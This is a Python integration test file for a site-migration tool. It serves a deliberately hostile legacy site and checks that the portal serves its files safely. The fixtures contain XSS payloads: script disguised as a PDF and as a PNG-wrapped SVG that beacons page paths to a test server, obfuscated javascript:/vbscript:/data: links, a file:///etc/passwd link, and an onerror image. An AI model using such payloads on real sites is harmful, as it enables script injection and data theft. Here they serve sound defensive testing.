"""A compromised legacy site's files and links, migrated end to end (issue 21, holes 2 and 3):
a real crawl of a hostile local site, transform, plan (the review page), apply to the embedded
portal, `portalize portal serve`, and headless Chromium. The hostile files would run script
in the portal's origin (a `bao-cao.pdf` sent as text/html, a `.png` holding an SVG with
script); their script calls a beacon server the test runs: it must get no hit from the
portal. `javascript:` links dressed as files must reach no page: not the review, not the
portal's item, not the post content a one-body portal (WordPress, `rest`) is sent."""
from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import urllib.error
import urllib.request
from http.server import BaseHTTPRequestHandler

import ada_url
import lxml.html
import pytest

from .conftest import ROOT, run_portalize, untuned_agency
from .sites.local import base_url, html_handler, serving
from .test_browser import chromium

pytestmark = [pytest.mark.integration, pytest.mark.browser]

HOST, CODE = "sohiem.tinhmau.gov.vn", "so-hiem"
SAFE = {"http:", "https:", "mailto:", "tel:"}
# A minimal valid PDF: shown inline by the portal (its bytes are a PDF).
PDF = (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj "
       b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")


def hostile_site(beacon: str) -> dict:
    """path -> (Content-Type the legacy server sends, body)."""
    script = f"document.title='PWNED';new Image().src='{beacon}/'+location.pathname;fetch('{beacon}/f'+location.pathname)"
    html_file = f"<html><body><h1>Báo cáo</h1><script>{script}</script></body></html>".encode()
    svg = (f'<svg xmlns="http://www.w3.org/2000/svg" onload="{script}"><script>{script}</script>'
           f'<rect width="10" height="10"/></svg>').encode()
    links = "".join(
        f'<li><a href="{href}">Tải tệp {n}</a></li>' for n, href in enumerate([
            f"javascript:fetch('{beacon}/js')//bao-cao.pdf",
            "JaVaScRiPt:alert(1)//quyet-dinh.docx",
            "java&#x09;script:alert(2)//ke-hoach.xlsx",
            "&#106;avascript:alert(3)//to-trinh.pdf",
            "vbscript:msgbox(4)//bieu-mau.doc",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCg1KTwvc2NyaXB0Pg==//x.pdf",
            "file:///etc/passwd#bang-gia.xls",
        ]))
    article = f"""<!doctype html><html><head><meta charset="utf-8"><title>Báo cáo tổng kết năm 2023</title></head>
<body><div class="menu"><a href="/">Trang chủ</a></div><article><h1>Báo cáo tổng kết công tác năm 2023</h1>
<div class="date">Ngày đăng: 15/01/2024 09:00</div><div class="content">
<p>Sở đã hoàn thành các nhiệm vụ trọng tâm năm 2023 về quản lý đất đai, tài nguyên nước và bảo vệ môi trường;
tổ chức kiểm tra, thanh tra trên địa bàn tỉnh và triển khai chuyển đổi số trong toàn ngành.</p>
<p>Toàn văn báo cáo: <a href="/files/bao-cao.pdf">bao-cao.pdf</a>; kế hoạch: <a href="/files/ke-hoach.pdf">ke-hoach.pdf</a>.</p>
<p><img src="/files/anh.png" alt="Ảnh hội nghị"> <img src="/files/so-do.svg" alt="Sơ đồ"></p><ul>{links}</ul>
<p>Năm 2024, Sở tiếp tục cải cách thủ tục hành chính, nâng cao chất lượng phục vụ người dân và doanh nghiệp.</p>
</div></article></body></html>"""
    home = ('<!doctype html><html><head><meta charset="utf-8"><title>Sở Hiểm</title></head><body>'
            '<ul><li><a href="/tin-tuc/bao-cao-tong-ket.html">Báo cáo tổng kết công tác năm 2023</a></li></ul></body></html>')
    html = "text/html; charset=utf-8"
    return {"/": (html, home.encode()), "/tin-tuc/bao-cao-tong-ket.html": (html, article.encode()),
            "/files/bao-cao.pdf": ("text/html", html_file), "/files/anh.png": ("image/svg+xml", svg),
            "/files/so-do.svg": ("image/svg+xml", svg.replace(b"<rect", b"<circle r='5'/><rect")), "/files/ke-hoach.pdf": ("application/pdf", PDF)}


def site_handler(pages: dict):
    class Site(BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802
            kind, body = pages.get(self.path.split("?")[0], ("text/html", "<html><body>Không có</body></html>".encode()))
            self.send_response(200 if self.path.split("?")[0] in pages else 404)
            self.send_header("Content-Type", kind)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args):
            pass
    return Site


def unsafe_links(html: str) -> list[str]:
    """Every URL attribute of a page that a browser would read with a scheme other than
    http(s), mailto or tel (read by a WHATWG parser, ada, as Chromium reads it)."""
    root = lxml.html.document_fromstring(html)
    bad = []
    for element in root.iter():
        if not isinstance(element.tag, str):
            continue
        for name in ("href", "src", "action", "formaction"):
            value = element.get(name)
            if value is None:
                continue
            try:
                scheme = ada_url.URL(value, "http://portal.example/").protocol
            except ValueError:
                continue  # not a URL: nothing to follow
            if scheme not in SAFE and not (name == "src" and re.match(r"data:image/(png|jpe?g|gif|webp|bmp);", value)):
                bad.append(f"{element.tag} {name}={value[:80]}")
    return bad


@pytest.fixture(scope="module")
def beacon():
    hits = []
    with serving(html_handler(lambda path: hits.append(path) or "ok")) as server:
        yield base_url(server), hits


@pytest.fixture(scope="module")
def migrated(tmp_path_factory, beacon):
    beacon_url, _ = beacon
    work = tmp_path_factory.mktemp("hostile")
    env = untuned_agency(work, CODE, "Sở Hiểm", "department", f"http://{HOST}/")
    pages = hostile_site(beacon_url)
    with serving(site_handler(pages)) as server:
        origin = ["--origin", f"{HOST}={base_url(server)}"]
        run_portalize("agencies", "register", CODE, *origin, env_extra=env)
        run_portalize("crawl", CODE, "-s", *origin, env_extra=env)
        run_portalize("transform", CODE, env_extra=env)
        accept = ["--accept-quality", "one test article"]
        plan = json.loads(run_portalize("plan", CODE, *accept, "--json", env_extra=env).stdout)
        run_portalize("apply", str(plan["plan"]), "--yes", "-s", env_extra=env)
        # The control: served as the legacy server serves it, the hostile file runs script.
        control = work / "control.html"
        control.write_text(f'<iframe src="{base_url(server)}/files/bao-cao.pdf"></iframe>', encoding="utf-8")
        chromium("--virtual-time-budget=5000", "--dump-dom", control.as_uri())
        control = list(beacon[1])
    yield {"work": work, "env": env, "plan": plan, "control": control}


@pytest.fixture(scope="module")
def portal(migrated):
    server = subprocess.Popen([sys.executable, "-m", "portalize.cli", "portal", "serve", "--port", "0"], cwd=ROOT,
                              env={**os.environ, **migrated["env"]}, stdout=subprocess.PIPE,
                              stderr=subprocess.PIPE, text=True)
    try:
        line = server.stdout.readline()
        yield re.search(r"http://127\.0\.0\.1:\d+", line)[0]
    finally:
        server.terminate()
        server.wait(timeout=10)
        server.stdout.close()
        server.stderr.close()


def get(url: str) -> str:
    with urllib.request.urlopen(url) as answer:
        return answer.read().decode()


def _item_page(portal: str) -> tuple[str, str]:
    href = re.search(r'<a href="(/web/[^"]+/-/[^"]+)">', get(f"{portal}/web/{CODE}"))[1]
    return href, get(portal + href)


def test_hostile_files_run_no_script_from_the_portal(migrated, portal, beacon, tmp_path):
    _, hits = beacon
    assert migrated["control"], "the control: the legacy server's own answer runs the script"
    hits.clear()
    href, item = _item_page(portal)
    files = sorted(set(re.findall(r'(?:href|src)="(/documents/[^"]+)"', item)))
    names = {f.rsplit("/", 1)[1] for f in files}
    assert {"bao-cao.pdf", "anh.png", "so-do.svg", "ke-hoach.pdf"} <= names, files
    seen = {}
    for path in files:
        with urllib.request.urlopen(portal + path) as answer:
            seen[path.rsplit("/", 1)[1]] = answer.headers
    # Each file opened in a frame (a top-level download would keep headless Chromium waiting),
    # as a page linking or framing it would: an attachment is downloaded, the others shown.
    frames = tmp_path / "frames.html"
    frames.write_text("".join(f'<iframe src="{portal}{path}"></iframe>' for path in files), encoding="utf-8")
    result = chromium("--virtual-time-budget=5000", "--dump-dom", frames.as_uri())
    assert result.returncode == 0 and result.stdout.count("<iframe") == len(files)
    page = chromium("--virtual-time-budget=3000", "--dump-dom", portal + href).stdout
    assert "Báo cáo tổng kết công tác năm 2023" in page and "PWNED" not in page
    assert hits == [], f"script ran from the portal: {hits}"
    # Types from the bytes and the name, never the legacy server's word.
    assert seen["bao-cao.pdf"]["Content-Type"] == "application/octet-stream"  # HTML in a .pdf
    assert seen["anh.png"]["Content-Type"] == "application/octet-stream"  # SVG in a .png
    assert seen["so-do.svg"]["Content-Type"] == "image/svg+xml"
    assert seen["ke-hoach.pdf"]["Content-Type"] == "application/pdf"
    for name, headers in seen.items():
        assert headers["X-Content-Type-Options"] == "nosniff"
        assert headers["Content-Security-Policy"] == "default-src 'none'; sandbox"
        inline = name == "ke-hoach.pdf"
        assert (headers["Content-Disposition"] is None) == inline, (name, headers["Content-Disposition"])
        if not inline:
            assert headers["Content-Disposition"].startswith("attachment;")
    with urllib.request.urlopen(portal + href) as answer:
        policy = answer.headers["Content-Security-Policy"]
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        assert "default-src 'none'" in policy and "script-src" not in policy


def test_the_file_prefix_is_exact(portal, migrated):
    _, item = _item_page(portal)
    path = re.search(r'href="(/documents/[0-9a-f]{16}/bao-cao\.pdf)"', item)[1]
    assert get(portal + path)
    for prefix in ("%25", "________________", "%25%25%25%25%25%25%25%25%25%25%25%25%25%25%25%25",
                   path.split("/")[2][:8] + "%25", path.split("/")[2].upper()):
        with pytest.raises(urllib.error.HTTPError) as refused:
            urllib.request.urlopen(f"{portal}/documents/{prefix}/bao-cao.pdf")
        refused.value.close()
        assert refused.value.code == 404, prefix


def test_javascript_links_reach_no_page(migrated, portal):
    """Not the staged article's files, not the review page, not the portal's item and its
    page, not the post content sent to one-body portals."""
    import sqlite3

    from portalize.loaders.render import post_parts

    work = migrated["work"]
    db = sqlite3.connect(work / "var" / "portalize.db")
    (data,) = db.execute("select data from staged_articles where status = 'ok'").fetchone()
    db.close()
    article = json.loads(data)
    urls = [a["url"] for a in article["attachments"] + article["images"]]
    assert any(u.endswith("/files/bao-cao.pdf") for u in urls)
    assert all(ada_url.URL(u).protocol in SAFE for u in urls), urls
    review = work / "var" / "plans" / f"plan-{migrated['plan']['plan']}-{CODE}.html"
    dom = chromium("--dump-dom", review.as_uri()).stdout
    assert "Báo cáo tổng kết công tác năm 2023" in dom
    assert unsafe_links(dom) == []
    db = sqlite3.connect(work / "var" / "portal.db")
    (fields,) = db.execute("select fields from items").fetchone()
    db.close()
    fields = json.loads(fields)
    assert all(ada_url.URL(a["url"]).protocol in SAFE for a in fields["attachments"] + fields["images"])
    _, item = _item_page(portal)
    assert unsafe_links(item) == []
    content = post_parts(CODE, "digest", fields)["content"]
    assert "bao-cao.pdf" in content and unsafe_links(content) == []


def test_the_review_page_runs_only_its_own_script(workspace):
    """The review page allows its one script (the filters) by hash: a body that reached the
    staging tables with a handler in it (staged before the sanitiser, or edited there) runs
    nothing, and the filters still work."""
    import datetime as dt

    from portalize.app.reports import write_plan_html
    from portalize.app.results import PlanEntryView
    from portalize.core.ledger.models import Plan
    from portalize.core.registry import load_registry

    registry = load_registry(ROOT / "mappings")
    body = ("<p>Nội dung</p><img src=x onerror=\"document.title='PWNED'\">"
            "<script>document.title='PWNED'</script><a href=\"javascript:alert(1)\">x</a>")
    previews = {"u1": {"title": "Bài", "group": "news", "kind": "article", "body_html": body,
                       "source_url": "http://stnmt.tinhmau.gov.vn/a.html", "files": [], "document_rows": []}}
    plan = Plan(id=7, agency="stnmt", created_at=dt.datetime(2024, 6, 1, tzinfo=dt.timezone.utc), status="pending",
                fingerprint="x", summary={"create": 1})
    page = write_plan_html(plan, [PlanEntryView(uid="u1", action="create", title="Bài", reason=None, diff=[])],
                           registry.agencies["stnmt"], registry, "Cổng thử", previews=previews)
    dom = chromium("--virtual-time-budget=3000", "--dump-dom", page.as_uri()).stdout
    assert "Hiển thị 1 / 1 mục" in dom  # the page's own script ran
    assert "PWNED" not in dom.split("</title>")[0]
